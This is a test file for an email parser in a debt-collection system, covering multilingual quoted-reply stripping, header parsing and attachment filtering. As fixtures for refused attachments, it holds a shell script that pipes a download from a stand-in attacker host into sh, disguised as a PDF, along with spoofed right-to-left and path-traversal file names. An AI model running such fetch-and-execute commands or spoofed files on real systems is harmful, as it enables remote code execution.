import { createHash } from 'node:crypto';
import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import type Mail from 'nodemailer/lib/mailer/index.js';
import { describe, expect, it } from 'vitest';
import { InboundEmailError, parseInboundEmail, safeFilename, stripQuotedHistory } from '../../src/inbound/email-parse.ts';

const RECEIVED_AT = new Date('2026-11-18T10:15:00Z');
const OURS = 'msg_0123456789abcdef0123456789abcdef';
const OLDER = 'msg_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa';
const DOMAIN = 'demo-collect.example';
const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');

/** A debtor's reply to our message OURS, composed by nodemailer as a mail client would send it. */
async function reply(mail: Mail.Options): Promise<Buffer> {
  return new MailComposer({
    from: 'Jan Kowalski <Jan.Kowalski@Example.PL>',
    to: `Demo Collect <odpowiedzi@${DOMAIN}>`,
    subject: 'Re: Przypomnienie o płatności',
    inReplyTo: `<${OURS}@${DOMAIN}>`,
    references: [`<${OLDER}@${DOMAIN}>`, `<${OURS}@${DOMAIN}>`],
    ...mail,
  }).compile().build();
}
const parse = (raw: Buffer, limits?: Parameters<typeof parseInboundEmail>[1]['limits']) => parseInboundEmail(raw, { receivedAt: RECEIVED_AT, ...(limits ? { limits } : {}) });

// Replies as the common clients write them: the debtor's words on top, our message below.
const PLAIN_REPLIES: Array<{ name: string; text: string; expected: string }> = [
  {
    name: 'pl, Gmail (header wrapped inside the address)',
    text: 'Zapłacę w piątek 300 zł.\n\nPozdrawiam\nJan\n\nW dniu śr., 18 lis 2026 o 10:00 Demo Collect <\nnoreply@demo-collect.example> napisał(a):\n\n> Dzień dobry,\n> przypominamy o racie 300,00 zł.\n>\n',
    expected: 'Zapłacę w piątek 300 zł.\n\nPozdrawiam\nJan',
  },
  {
    name: 'pl, Thunderbird',
    text: 'To nie mój dług.\n\nW dniu 18.11.2026 o 10:00, Demo Collect pisze:\n> Dzień dobry,\n> przypominamy o racie.\n',
    expected: 'To nie mój dług.',
  },
  {
    name: 'pl, Outlook',
    text: 'Proszę o kontakt telefoniczny.\n\n________________________________\nOd: Demo Collect <noreply@demo-collect.example>\nWysłano: środa, 18 listopada 2026 10:00\nDo: Jan Kowalski <jan.kowalski@example.pl>\nTemat: Przypomnienie o płatności\n\nDzień dobry,\nprzypominamy o racie.\n',
    expected: 'Proszę o kontakt telefoniczny.',
  },
  {
    name: 'pl, Outlook "Oryginalna wiadomość"',
    text: 'Straciłem pracę, nie dam rady w tym miesiącu.\n\n-----Oryginalna wiadomość-----\nOd: Demo Collect\nDzień dobry',
    expected: 'Straciłem pracę, nie dam rady w tym miesiącu.',
  },
  {
    name: 'fi, Gmail',
    text: 'Maksan 15.12.\n\nke 18.11.2026 klo 10.00 Demo Collect <noreply@demo-collect.example> kirjoitti:\n\n> Hei,\n> muistutamme erääntyneestä maksusta.\n',
    expected: 'Maksan 15.12.',
  },
  {
    name: 'fi, Thunderbird (date after the verb)',
    text: 'En ole velkaa teille mitään.\n\nDemo Collect kirjoitti 18.11.2026 klo 10.00:\n> Hei,\n> muistutamme maksusta.\n',
    expected: 'En ole velkaa teille mitään.',
  },
  {
    name: 'fi, Outlook "Alkuperäinen viesti"',
    text: 'Olen sairauslomalla, soittakaa ensi kuussa.\n\n-----Alkuperäinen viesti-----\nLähettäjä: Demo Collect <noreply@demo-collect.example>\nLähetetty: keskiviikko 18. marraskuuta 2026 10.00\nVastaanottaja: Matti Virtanen\nAihe: Muistutus\n\nHei,\n',
    expected: 'Olen sairauslomalla, soittakaa ensi kuussa.',
  },
  {
    name: 'fi, Outlook block without the separator line',
    text: 'Kiitos, maksan perjantaina.\n\nLähettäjä: Demo Collect <noreply@demo-collect.example>\nLähetetty: keskiviikko 18. marraskuuta 2026 10.00\nVastaanottaja: Matti Virtanen <matti@example.fi>\nAihe: Muistutus\n\nHei Matti,\n',
    expected: 'Kiitos, maksan perjantaina.',
  },
  {
    name: 'it, Gmail',
    text: 'Pagherò lunedì 300 euro.\n\nIl giorno mer 18 nov 2026 alle ore 10:00 Demo Collect <noreply@demo-collect.example> ha scritto:\n\n> Gentile cliente,\n> le ricordiamo la rata.\n',
    expected: 'Pagherò lunedì 300 euro.',
  },
  {
    name: 'it, Outlook',
    text: 'Non è un mio debito.\n\nDa: Demo Collect <noreply@demo-collect.example>\nInviato: mercoledì 18 novembre 2026 10:00\nA: Mario Rossi <mario.rossi@example.it>\nOggetto: Promemoria di pagamento\n\nGentile cliente,\n',
    expected: 'Non è un mio debito.',
  },
  {
    name: 'it, "Messaggio originale"',
    text: 'Vorrei ricevere le comunicazioni per posta.\n\n-----Messaggio originale-----\nDa: Demo Collect\nGentile cliente',
    expected: 'Vorrei ricevere le comunicazioni per posta.',
  },
  {
    name: 'nl, Gmail',
    text: 'Ik betaal vrijdag.\n\nOp wo 18 nov 2026 om 10:00 schreef Demo Collect <noreply@demo-collect.example>:\n\n> Beste klant,\n> wij herinneren u aan de termijn.\n',
    expected: 'Ik betaal vrijdag.',
  },
  {
    name: 'nl, Apple Mail',
    text: 'Ik betwist deze vordering.\n\nOp 18 nov. 2026 om 10:00 heeft Demo Collect <noreply@demo-collect.example> het volgende geschreven:\n\n> Beste klant,\n',
    expected: 'Ik betwist deze vordering.',
  },
  {
    name: 'nl, Outlook with "Oorspronkelijk bericht"',
    text: 'Graag per e-mail in het Nederlands.\n\n-----Oorspronkelijk bericht-----\nVan: Demo Collect <noreply@demo-collect.example>\nVerzonden: woensdag 18 november 2026 10:00\nAan: Jan de Vries\nOnderwerp: Herinnering\n',
    expected: 'Graag per e-mail in het Nederlands.',
  },
  {
    name: 'en, Apple Mail, with a signature',
    text: 'STOP\n\n-- \nJohn Smith\nSent from my iPhone\n\nOn 18 Nov 2026, at 10:00, Demo Collect <noreply@demo-collect.example> wrote:\n\n> Dear customer,\n',
    expected: 'STOP',
  },
  {
    name: 'en, "-----Original Message-----"',
    text: 'Please call me after 5pm.\n\n-----Original Message-----\nFrom: Demo Collect\nSent: Wednesday, November 18, 2026 10:00 AM\n',
    expected: 'Please call me after 5pm.',
  },
];

describe('stripQuotedHistory', () => {
  it.each(PLAIN_REPLIES)('keeps only the new words: $name', ({ text, expected }) => {
    expect(stripQuotedHistory(text)).toBe(expected);
  });

  it('keeps an answer written below and between the quotes (bottom posting)', () => {
    const text = 'On Wed, Nov 18, 2026 at 10:00 AM Demo Collect <noreply@demo-collect.example> wrote:\n> Can you pay the instalment this week?\nNo, my husband died last month.\n> Shall we call you?\nPlease write instead.\n';
    expect(stripQuotedHistory(text)).toBe('No, my husband died last month.\nPlease write instead.');
  });

  // Text that looks like a header or a separator but is the debtor's own: never cut.
  const OWN_WORDS = [
    'Mój brat napisał:\nzapłacę za niego w poniedziałek.',
    'Op maandag schreef ik u al: ik betaal vrijdag.\nMet vriendelijke groet',
    'Äiti kirjoitti:\nhän maksaa loput ensi viikolla.',
    'Il giorno 12 ho pagato metà, mia moglie ha scritto:\nil resto a dicembre.',
    'On Monday I will pay.\nMy lawyer wrote:\nthe debt is disputed.',
    'Da: domani pago 200 euro.\nA: chi devo scrivere?',
    'Van: Jan\nik betaal vrijdag',
    'Zapłacę 10--12 listopada.\n--\nJan',
    '> 300 zł to za dużo, zapłacę 100.\nTo moja propozycja.',
  ];
  it.each(OWN_WORDS)('never drops the debtor\'s own words: %j', (text) => {
    const out = stripQuotedHistory(text);
    const own = text.split('\n').filter((l) => !l.startsWith('>'));
    expect(out.split('\n')).toEqual(own);
  });

  it('does not join a finished sentence with the reply header that follows it', () => {
    const text = 'On Monday I will pay.\nOn 18 Nov 2026, at 10:00, Demo Collect <noreply@demo-collect.example> wrote:\n> Dear customer,';
    expect(stripQuotedHistory(text)).toBe('On Monday I will pay.');
  });
});

describe('parseInboundEmail', () => {
  it('reads sender, recipient, Message-ID and our ids from the thread headers, newest first', async () => {
    const raw = await reply({
      text: PLAIN_REPLIES[0]?.text ?? '',
      messageId: '<CAF=abc123@mail.gmail.com>',
      inReplyTo: `<${OURS}@${DOMAIN}>`,
      references: [`<${OLDER}@${DOMAIN}>`, '<unrelated-id@elsewhere.example>', `<${OURS}@${DOMAIN}>`, `<msg_0123456789ABCDEF0123456789ABCDEF@${DOMAIN}>`],
    });
    const parsed = await parse(raw);
    expect(parsed).toMatchObject({
      channel: 'email',
      providerId: '<CAF=abc123@mail.gmail.com>',
      from: 'jan.kowalski@example.pl',
      to: `odpowiedzi@${DOMAIN}`,
      text: 'Zapłacę w piątek 300 zł.\n\nPozdrawiam\nJan',
      inReplyTo: [OURS, OLDER],
      attachments: [],
      refusedAttachments: [],
      receivedAt: RECEIVED_AT,
    });
  });

  it('finds our id in References when In-Reply-To names another message', async () => {
    const raw = await reply({ text: 'ok', inReplyTo: '<other@mail.example>', references: [`<${OLDER}@${DOMAIN}>`, '<other@mail.example>'] });
    expect((await parse(raw)).inReplyTo).toEqual([OLDER]);
  });

  it('uses a sha256 of the raw message as the id of a message without Message-ID', async () => {
    const raw = Buffer.from(
      ['From: matti.virtanen@example.fi', `To: vastaukset@${DOMAIN}`, 'Subject: Re: Muistutus', `In-Reply-To: <${OURS}@${DOMAIN}>`, 'Content-Type: text/plain; charset=utf-8', '', 'Maksan perjantaina.', ''].join('\r\n'),
    );
    const parsed = await parse(raw);
    expect(parsed.providerId).toBe(`sha256:${sha256(raw)}`);
    expect(parsed.inReplyTo).toEqual([OURS]);
    expect(parsed.text).toBe('Maksan perjantaina.');
    // The same bytes delivered twice are the same reply; other bytes are another.
    expect((await parse(Buffer.from(raw))).providerId).toBe(parsed.providerId);
    expect((await parse(Buffer.concat([raw, Buffer.from('\r\n')]))).providerId).not.toBe(parsed.providerId);
  });

  it('decodes an 8-bit body in a legacy charset', async () => {
    const head = Buffer.from('From: jan@example.pl\r\nSubject: Re: Przypomnienie\r\nContent-Type: text/plain; charset=iso-8859-2\r\nContent-Transfer-Encoding: 8bit\r\n\r\n', 'latin1');
    // "Zapłacę w piątek." in ISO-8859-2: ł = 0xB3, ę = 0xEA, ą = 0xB1.
    const body = Buffer.from([...Buffer.from('Zap', 'latin1'), 0xb3, ...Buffer.from('ac', 'latin1'), 0xea, ...Buffer.from(' w pi', 'latin1'), 0xb1, ...Buffer.from('tek.\r\n', 'latin1')]);
    expect((await parse(Buffer.concat([head, body]))).text).toBe('Zapłacę w piątek.');
  });

  describe('HTML-only replies', () => {
    it('Gmail (pl): the blockquote and its header go', async () => {
      const html =
        '<div dir="ltr">Zapłacę w piątek 300 zł.<br><br>Pozdrawiam<br>Jan</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">W dniu śr., 18 lis 2026 o 10:00 Demo Collect &lt;<a href="mailto:noreply@demo-collect.example">noreply@demo-collect.example</a>&gt; napisał(a):<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Dzień dobry,<br>przypominamy o racie.<blockquote>starsza wiadomość</blockquote></blockquote></div>';
      expect((await parse(await reply({ html }))).text).toBe('Zapłacę w piątek 300 zł.\n\nPozdrawiam\nJan');
    });

    it('Outlook (nl): the block after the rule goes, though the original is not quoted', async () => {
      const html =
        '<div>Ik betaal vrijdag 150 euro.</div><div id="appendonsend"></div><hr style="display:inline-block;width:98%" tabindex="-1"><div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000"><b>Van:</b> Demo Collect &lt;noreply@demo-collect.example&gt;<br><b>Verzonden:</b> woensdag 18 november 2026 10:00<br><b>Aan:</b> jan@example.nl &lt;jan@example.nl&gt;<br><b>Onderwerp:</b> Herinnering</font><div>&nbsp;</div></div><div>Beste Jan, uw termijn van 150 euro</div>';
      expect((await parse(await reply({ html, from: 'jan@example.nl' }))).text).toBe('Ik betaal vrijdag 150 euro.');
    });

    it('Apple Mail (it) with a signature: "-- " survives the conversion as "--"', async () => {
      const html =
        '<div>Non è un mio debito.</div><div><br></div><div>-- <br>Mario Rossi</div><div><br><blockquote type="cite"><div>Il giorno 18 nov 2026, alle ore 10:00, Demo Collect &lt;noreply@demo-collect.example&gt; ha scritto:</div><div>Gentile cliente,</div></blockquote></div>';
      expect((await parse(await reply({ html }))).text).toBe('Non è un mio debito.');
    });
  });

  it('takes the subject as the text when the body says nothing new', async () => {
    expect((await parse(await reply({ subject: 'STOP', text: '' }))).text).toBe('STOP');
    // "Re:" in any of our languages: the subject is ours, not the debtor's words.
    for (const subject of ['Re: Przypomnienie', 'Odp: Przypomnienie', 'VS: Muistutus', 'R: Promemoria', 'Antw: Herinnering']) {
      expect((await parse(await reply({ subject, text: `\nOn 18 Nov 2026, at 10:00, Demo <noreply@${DOMAIN}> wrote:\n> x\n` }))).text).toBe('');
    }
  });

  it('reads our List-Unsubscribe mailto: as an unsubscribe from the message it names', async () => {
    for (const text of ['', 'This message was automatically generated by Gmail.']) {
      const raw = await reply({ subject: `unsubscribe-${OLDER}`, text, inReplyTo: undefined, references: undefined });
      const parsed = await parse(raw);
      expect(parsed.text).toBe('UNSUBSCRIBE');
      expect(parsed.inReplyTo).toEqual([OLDER]);
    }
  });

  it('refuses a message without a sender, and bytes that are no message at all', async () => {
    await expect(parse(Buffer.from('To: a@b.example\r\nSubject: hi\r\n\r\nhello\r\n'))).rejects.toMatchObject({ reason: 'no-sender' });
    const garbage = parse(Buffer.from([0x00, 0x01, 0xff, 0xfe, 0x4d, 0x5a, 0x90, 0x00, 0x0a, 0x0a, 0x03]));
    await expect(garbage).rejects.toBeInstanceOf(InboundEmailError);
    // A header block past mailparser's bound is refused rather than parsed at length.
    await expect(parse(Buffer.from(`From: a@b.pl\r\nX-Padding: ${'a'.repeat(300 * 1024)}\r\n\r\nhi\r\n`))).rejects.toMatchObject({ reason: 'unparseable' });
  });
});

// Just enough of each format for the magic-byte check; the files are never opened further.
const PDF = Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0xff, 0xd9]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n');
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(62), Buffer.from('This program cannot be run in DOS mode.')]);
const bigPng = (bytes: number) => Buffer.concat([PNG, Buffer.alloc(bytes - PNG.length, 0x41)]);

describe('attachments', () => {
  it('keeps PDFs, JPEGs, PNGs and text with their sha256, and refuses a fake PDF, an .exe and an oversize image', async () => {
    const raw = await reply({
      text: 'W załączniku potwierdzenie przelewu.',
      attachments: [
        { filename: 'potwierdzenie.pdf', content: PDF, contentType: 'application/pdf' },
        { filename: 'zdjęcie.jpg', content: JPEG, contentType: 'image/jpeg' },
        { filename: 'ekran.png', content: PNG, contentType: 'image/png' },
        { filename: 'notatka.txt', content: 'Przelew z 17.11.', contentType: 'text/plain' },
        { filename: 'faktura.pdf', content: SCRIPT, contentType: 'application/pdf' },
        { filename: 'setup.exe', content: EXE, contentType: 'application/x-msdownload' },
        { filename: 'skan.png', content: bigPng(5 * 1024 * 1024 + 1), contentType: 'image/png' },
      ],
    });
    const parsed = await parse(raw);
    expect(parsed.attachments.map((a) => [a.filename, a.contentType, a.size, a.sha256])).toEqual([
      ['potwierdzenie.pdf', 'application/pdf', PDF.length, sha256(PDF)],
      ['zdjęcie.jpg', 'image/jpeg', JPEG.length, sha256(JPEG)],
      ['ekran.png', 'image/png', PNG.length, sha256(PNG)],
      ['notatka.txt', 'text/plain', 16, sha256('Przelew z 17.11.')],
    ]);
    expect(parsed.attachments[0]?.data.equals(PDF)).toBe(true);
    expect(parsed.refusedAttachments).toEqual([
      { filename: 'faktura.pdf', contentType: 'application/pdf', size: SCRIPT.length, reason: 'content-does-not-match-type' },
      { filename: 'setup.exe', contentType: 'application/x-msdownload', size: EXE.length, reason: 'type-not-allowed' },
      { filename: 'skan.png', contentType: 'image/png', size: 5 * 1024 * 1024 + 1, reason: 'too-large' },
    ]);
    // Refused ones are listed for the record, their bytes are not kept.
    expect(parsed.refusedAttachments[0]).not.toHaveProperty('data');
  });

  it('refuses an .exe sent as application/octet-stream, a PNG named .exe, and text that is binary', async () => {
    const raw = await reply({
      text: 'zie bijlage',
      attachments: [
        { filename: 'betaling.exe', content: EXE, contentType: 'application/octet-stream' },
        { filename: 'betaling.exe', content: PNG, contentType: 'image/png' },
        { filename: 'readme.txt', content: EXE, contentType: 'text/plain' },
      ],
    });
    expect((await parse(raw)).refusedAttachments.map((r) => r.reason)).toEqual(['type-not-allowed', 'extension-does-not-match-type', 'content-does-not-match-type']);
  });

  it('stops at the count and total limits, counting the debtor\'s files before embedded images', async () => {
    const files = Array.from({ length: 6 }, (_, i) => ({ filename: `strona-${i + 1}.png`, content: PNG, contentType: 'image/png' }));
    const logo = { filename: 'logo.png', content: PNG, contentType: 'image/png', cid: 'logo@mail' };
    const raw = await reply({ html: '<p>Skany w załączeniu.</p><img src="cid:logo@mail">', attachments: [logo, ...files] });
    const parsed = await parse(raw);
    expect(parsed.attachments.map((a) => a.filename)).toEqual(['strona-1.png', 'strona-2.png', 'strona-3.png', 'strona-4.png', 'strona-5.png']);
    expect(parsed.refusedAttachments.map((r) => [r.filename, r.reason])).toEqual([
      ['strona-6.png', 'too-many'],
      ['logo.png', 'too-many'],
    ]);

    const sizes = [bigPng(4000), bigPng(4000), bigPng(4000)].map((content, i) => ({ filename: `skan-${i}.png`, content, contentType: 'image/png' }));
    const limited = await parse(await reply({ text: 'skany', attachments: sizes }), { maxTotalBytes: 10_000 });
    expect(limited.attachments).toHaveLength(2);
    expect(limited.refusedAttachments).toEqual([{ filename: 'skan-2.png', contentType: 'image/png', size: 4000, reason: 'total-too-large' }]);
  });

  it('cleans file names: no path, no control or direction-override characters', async () => {
    expect(safeFilename('..\\..\\windows\\system32\\x.pdf', 'f')).toBe('x.pdf');
    expect(safeFilename('rachunek\u202Efdp.exe', 'f')).toBe('rachunekfdp.exe');
    expect(safeFilename('\u0000\u0007', 'attachment-1.pdf')).toBe('attachment-1.pdf');
    expect(safeFilename(`${'a'.repeat(300)}.pdf`, 'f')).toBe(`${'a'.repeat(146)}.pdf`);
    // The reversed name cannot be stored as a PDF: its real extension is .exe.
    const raw = await reply({ text: 'x', attachments: [{ filename: 'rachunek\u202Efdp.exe', content: PDF, contentType: 'application/pdf' }] });
    expect((await parse(raw)).refusedAttachments).toEqual([{ filename: 'rachunekfdp.exe', contentType: 'application/pdf', size: PDF.length, reason: 'extension-does-not-match-type' }]);
  });
});
